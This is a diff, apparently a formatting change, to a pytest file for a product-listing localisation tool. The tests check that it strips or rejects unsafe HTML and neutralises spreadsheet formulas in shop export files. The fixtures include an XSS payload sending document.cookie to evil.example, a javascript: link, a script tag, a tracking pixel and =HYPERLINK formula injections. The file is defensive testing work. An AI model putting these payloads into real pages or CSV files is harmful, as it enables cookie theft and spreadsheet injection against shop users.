@@ -19,7 +19,7 @@ from localize.store import iter_jsonl
 
 WOO = Path(__file__).resolve().parent.parent / "examples" / "woocommerce_products_export.csv"
 ATTACKS = (
-    '<p>Warm.<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"></p>',
+    "<p>Warm.<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"></p>",
     '<p>Warm. <a href="javascript:alert(document.domain)">Details</a></p>',
     '<p style="position:fixed;top:0">Warm.</p>',
     "<p>Warm.</p><script>steal()</script>",
@@ -29,12 +29,25 @@ ATTACKS = (
 @pytest.fixture(autouse=True)
 def fast_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HOLYSHEEP_API_KEY", "sk-safe-test")
-    write(tmp_path / "localize.yaml", "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nmagento_store_views: {de-DE: de}\n")
+    write(
+        tmp_path / "localize.yaml", "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nmagento_store_views: {de-DE: de}\n"
+    )
 
 
 def run(run_cli, relay: FakeRelay, catalog: Path, *args: str):
     return run_cli(
-        "run", catalog, "-l", "de-DE", "-p", "shopify", "--base-url", relay.base_url, "--out", "out", "--pack", "1",
+        "run",
+        catalog,
+        "-l",
+        "de-DE",
+        "-p",
+        "shopify",
+        "--base-url",
+        relay.base_url,
+        "--out",
+        "out",
+        "--pack",
+        "1",
         *args,
     )
 
@@ -58,7 +71,9 @@ def test_script_bearing_html_from_the_model_is_asked_again_and_never_written(
     assert result.exit_code == 0, result.stderr
     products = len(list(iter_jsonl(Path("out/results.jsonl"))))
     assert len(relay.chat_requests) == products + 1  # the first answer refused, asked again
-    refused = [r for r in iter_jsonl(Path("out/requests.jsonl")) if "no scripts, handlers or styles" in (r["message"] or "")]
+    refused = [
+        r for r in iter_jsonl(Path("out/requests.jsonl")) if "no scripts, handlers or styles" in (r["message"] or "")
+    ]
     assert len(refused) == 1 and refused[0]["error"] in ("unsafe_html", "html")
     for path in (Path("out/woocommerce/de-DE.csv"), Path("out/magento_products.csv")):
         text = every_cell(path)
@@ -78,7 +93,7 @@ def test_a_hand_edit_with_script_is_reduced_in_every_import_file(run_cli, relay:
         text = every_cell(path)
         assert "onerror" not in text and "javascript:" not in text and "<script" not in text
     edited = next(row for row in woo_rows() if row["Name"].startswith("Mütze"))
-    assert edited["Name"] == "Mütze " and "<p>Warm.<img src=\"x\"></p>" in edited["Description"]
+    assert edited["Name"] == "Mütze " and '<p>Warm.<img src="x"></p>' in edited["Description"]
 
 
 def test_an_image_or_link_the_source_does_not_have_is_dropped_and_said(run_cli, relay: FakeRelay) -> None:
@@ -86,7 +101,9 @@ def test_an_image_or_link_the_source_does_not_have_is_dropped_and_said(run_cli, 
     pixel = '<p>Warm. <img src="https://track.example/p.gif" width="1" height="1"> <a href="https://evil.example">Angebot</a></p>'
     relay.enqueue(Answer(listing={**german, "description": pixel, "seo_title": "Mütze", "seo_description": "Warm"}))
     write(Path("localize.yaml"), "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nfigures: warn\n")
-    result = run(run_cli, relay, WOO, "--format", "woocommerce", "--max-reasks", "0")  # the figures this answer lacks: a warning
+    result = run(
+        run_cli, relay, WOO, "--format", "woocommerce", "--max-reasks", "0"
+    )  # the figures this answer lacks: a warning
     assert result.exit_code == 0, result.stderr
     rows = list(iter_jsonl(Path("out/results.jsonl")))
     assert len(relay.chat_requests) == len(rows)  # repaired, not paid for again
@@ -98,18 +115,30 @@ def test_an_image_or_link_the_source_does_not_have_is_dropped_and_said(run_cli, 
 
 def test_a_formula_from_the_model_is_asked_again_and_a_list_marker_is_removed(run_cli, relay: FakeRelay) -> None:
     german = listing_for("de")
-    formula = {**german, "title": '=HYPERLINK("http://evil.example/x","Click")', "seo_title": "M", "seo_description": "W"}
+    formula = {
+        **german,
+        "title": '=HYPERLINK("http://evil.example/x","Click")',
+        "seo_title": "M",
+        "seo_description": "W",
+    }
     relay.enqueue(Answer(listing=formula))
     result = run(run_cli, relay, WOO, "--format", "woocommerce")
     assert result.exit_code == 0, result.stderr
     assert len(relay.chat_requests) == len(list(iter_jsonl(Path("out/results.jsonl")))) + 1
     assert [r["error"] for r in iter_jsonl(Path("out/requests.jsonl"))][0] == "formula"
-    marked = {**german, "bullets": [f"- {item}" for item in german["bullets"]], "seo_title": "M", "seo_description": "W"}
+    marked = {
+        **german,
+        "bullets": [f"- {item}" for item in german["bullets"]],
+        "seo_title": "M",
+        "seo_description": "W",
+    }
     relay.enqueue(Answer(listing=marked))
     write(Path("localize.yaml"), "rpm: 60000\nbackoff_s: 0.001\nconcurrency: 1\nfigures: warn\n")
     result = run(run_cli, relay, WOO, "--format", "woocommerce", "--force", "--max-reasks", "0")
     assert result.exit_code == 0, result.stderr
-    row = next(r for r in iter_jsonl(Path("out/results.jsonl")) if any(w.startswith("list_markers") for w in r["warnings"]))
+    row = next(
+        r for r in iter_jsonl(Path("out/results.jsonl")) if any(w.startswith("list_markers") for w in r["warnings"])
+    )
     assert row["bullets"] == german["bullets"]
 
 
@@ -125,7 +154,7 @@ def test_catalog_cells_that_start_like_a_formula_are_neutralised_in_every_csv(
     assert result.exit_code == 0, result.stderr
     woo = woo_rows()
     assert {row["ID"] for row in woo} == {"'=1+1", "-7"}  # a plain number stays a number
-    assert {row["SKU"] for row in woo} == {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(A1)"}
+    assert {row["SKU"] for row in woo} == {'\'=HYPERLINK("http://evil.example","x")', "'@SUM(A1)"}
     magento = list(csv.DictReader(io.StringIO(Path("out/magento_products.csv").read_text(encoding="utf-8"))))
     assert all(row["sku"].startswith("'") for row in magento)
     results_csv = list(csv.DictReader(io.StringIO(Path("out/results.csv").read_text(encoding="utf-8"))))
@@ -142,5 +171,12 @@ def test_the_sanitiser_keeps_what_a_storefront_renders() -> None:
     text, dropped = drop_foreign_media('<img src="https://a/1.png"><img src="https://b/2.png">', {"https://a/1.png"})
     assert text == '<img src="https://a/1.png">' and dropped == ["https://b/2.png"]
     assert [safe_cell(v) for v in ("=1", "+x", "-x", "@x", "-12.5", "+49", "x", None)] == [
-        "'=1", "'+x", "'-x", "'@x", "-12.5", "+49", "x", ""
+        "'=1",
+        "'+x",
+        "'-x",
+        "'@x",
+        "-12.5",
+        "+49",
+        "x",
+        "",
     ]
